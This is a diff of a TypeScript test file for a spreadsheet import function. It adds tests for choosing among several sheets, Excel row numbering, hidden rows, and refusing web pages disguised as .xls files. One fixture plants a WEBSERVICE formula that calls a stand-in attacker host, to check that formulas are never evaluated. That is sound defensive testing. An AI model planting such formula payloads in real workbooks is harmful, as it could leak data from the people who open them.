@@ -2,15 +2,19 @@
 import { utils, write } from '@e965/xlsx'
 import { strToU8, zipSync } from 'fflate'
 import { expect, test } from 'vitest'
-import { openFile } from './open-file'
+import { openFile, openSheet } from './open-file'
 
-/** A workbook with these cells in its first sheet. */
-function workbook(cells: unknown[][], change: (sheet: Record<string, unknown>) => void = () => undefined) {
+/** A workbook with these cells in its first sheet, and other sheets with these. */
+function workbook(
+  cells: unknown[][],
+  change: (sheet: Record<string, unknown>) => void = () => undefined,
+  others: Record<string, unknown[][]> = {},
+) {
   const sheet = utils.aoa_to_sheet(cells)
   change(sheet)
   const book = utils.book_new()
   utils.book_append_sheet(book, sheet, 'Henkilöt')
-  utils.book_append_sheet(book, utils.aoa_to_sheet([['muu']]), 'Toinen')
+  for (const [name, rows] of Object.entries(others)) utils.book_append_sheet(book, utils.aoa_to_sheet(rows), name)
   return new Uint8Array(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer)
 }
 /** jsdom's own Blob has no arrayBuffer(). */
@@ -35,11 +39,15 @@ test('an .xlsx file is read: texts, numbers, dates and percentages as they are s
   )
   expect(await openFile(fileOf(bytes))).toEqual({
     kind: 'table',
-    table: [
-      ['Sukunimi', 'Henkilönumero', 'Alkupäivä', 'Työaika %'],
-      ['Öhman', '101', '2026-02-01', '37.5 %'],
-      ['Mäki', '007', '', ''],
-    ],
+    table: {
+      rows: [
+        ['Sukunimi', 'Henkilönumero', 'Alkupäivä', 'Työaika %'],
+        ['Öhman', '101', '2026-02-01', '37.5 %'],
+        ['Mäki', '007', '', ''],
+      ],
+      // As Excel numbers them, with the empty row.
+      lines: [1, 2, 4],
+    },
   })
 })
 
@@ -47,7 +55,28 @@ test('a formula is not computed: the value saved with it counts', async () => {
   const bytes = workbook([['Sukunimi'], ['x']], (sheet) => {
     sheet.A2 = { t: 's', v: 'Rautio', f: 'WEBSERVICE("https://evil.example")' }
   })
-  expect(await openFile(fileOf(bytes))).toMatchObject({ table: [['Sukunimi'], ['Rautio']] })
+  expect(await openFile(fileOf(bytes))).toMatchObject({ table: { rows: [['Sukunimi'], ['Rautio']] } })
+})
+
+test('of several sheets one is chosen; empty and hidden ones are not offered', async () => {
+  const others = { Tyhjä: [[]], Toinen: [['muu']] }
+  const opened = await openFile(fileOf(workbook([['Sukunimi'], ['Mäki']], undefined, others)))
+  if (opened.kind !== 'sheets') throw new Error(`opened as ${opened.kind}`)
+  expect(opened.sheets.map(({ name }) => name)).toEqual(['Henkilöt', 'Toinen'])
+  expect(opened.sheets.map((sheet) => openSheet(sheet))).toMatchObject([
+    { kind: 'table', table: { rows: [['Sukunimi'], ['Mäki']] } },
+    { kind: 'table', table: { rows: [['muu']] } },
+  ])
+  expect(await openFile(fileOf(workbook([['Sukunimi']], undefined, { Tyhjä: [[]] })))).toMatchObject({ kind: 'table' })
+})
+
+test('rows that Excel hides are counted', async () => {
+  const bytes = workbook([['Sukunimi'], ['Mäki'], ['Öhman']], (sheet) => {
+    sheet['!rows'] = [{}, { hidden: true }, {}]
+  })
+  expect(await openFile(fileOf(bytes))).toMatchObject({
+    table: { rows: [['Sukunimi'], ['Mäki'], ['Öhman']], hidden: 1 },
+  })
 })
 
 test('a workbook that would unpack to a huge one is refused', async () => {
@@ -61,6 +90,9 @@ test.each([
   ['a damaged workbook', workbook([['a']]).slice(0, 900), 'no-table'],
   ['an old or protected Excel file', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 1, 2), 'old-excel'],
   ['a picture', Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0, 0, 1), 'no-table'],
+  ['a web page named .xls', '\ufeff\n<html><table><tr><td>a</td></tr></table></html>', 'web-page'],
+  ['an XML spreadsheet named .xls', '<?xml version="1.0"?><Workbook/>', 'web-page'],
+  ['an empty workbook', workbook([[]]), 'empty'],
   ['an empty file', '', 'empty'],
   ['a file of blanks', '\r\n ;;\r\n', 'empty'],
 ])('%s is refused with its reason', async (_name, content, reason) => {
@@ -78,7 +110,7 @@ test('text is read as Excel saves it: Unicode text with tabs, UTF-8, and CSV of 
     ['Sukunimi', 'Etunimi'],
     ['Öhman', 'Åke'],
   ]
-  const table = { kind: 'table', table: rows }
+  const table = { kind: 'table', table: { rows, lines: [1, 2] } }
   expect(await openFile(fileOf(utf16('Sukunimi\tEtunimi\r\nÖhman\tÅke\r\n')))).toEqual(table)
   expect(await openFile(fileOf('\ufeffSukunimi;Etunimi\r\nÖhman;Åke\r\n'))).toEqual(table)
   const windows = Uint8Array.from('Sukunimi;Etunimi\r\nÖhman;Åke', (unit) => unit.charCodeAt(0))
